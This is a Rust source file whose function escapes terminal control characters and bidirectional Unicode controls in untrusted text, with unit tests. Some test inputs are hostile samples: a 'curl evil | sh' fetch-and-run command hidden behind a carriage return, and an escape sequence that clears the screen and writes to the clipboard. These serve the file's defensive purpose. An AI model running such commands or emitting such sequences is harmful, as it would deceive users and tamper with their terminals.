//! Text from elsewhere (a registry, an upstream server, a lockfile) made safe to print on a
//! terminal.

/// `s` with every character that would act on a terminal instead of showing shown escaped:
/// control characters (ESC and so every escape sequence, a carriage return that would overwrite
/// the line, backspace, C1 controls) and the bidirectional controls that reorder what is shown
/// (U+061C, U+200E, U+200F, U+202A to U+202E, U+2066 to U+2069). A newline stays a newline.
pub fn printable(s: &str) -> String {
    let mut out = String::with_capacity(s.len());
    for c in s.chars() {
        if (c.is_control() && c != '\n') || is_bidi_control(c) {
            out.extend(c.escape_default());
        } else {
            out.push(c);
        }
    }
    out
}

fn is_bidi_control(c: char) -> bool {
    matches!(c, '\u{061C}' | '\u{200E}' | '\u{200F}' | '\u{202A}'..='\u{202E}' | '\u{2066}'..='\u{2069}')
}

#[cfg(test)]
mod tests {
    use super::printable;

    #[test]
    fn terminal_controls_are_shown_not_obeyed() {
        assert_eq!(printable("plain ünïcode\nnext"), "plain ünïcode\nnext");
        assert_eq!(
            printable("curl evil | sh\r# harmless"),
            "curl evil | sh\\r# harmless"
        );
        assert_eq!(
            printable("\x1b[2J\x1b]52;c;eA==\x07"),
            "\\u{1b}[2J\\u{1b}]52;c;eA==\\u{7}"
        );
        assert_eq!(printable("a\u{202E}b\u{2066}c"), "a\\u{202e}b\\u{2066}c");
        assert_eq!(printable("\u{9b}31m"), "\\u{9b}31m");
    }
}
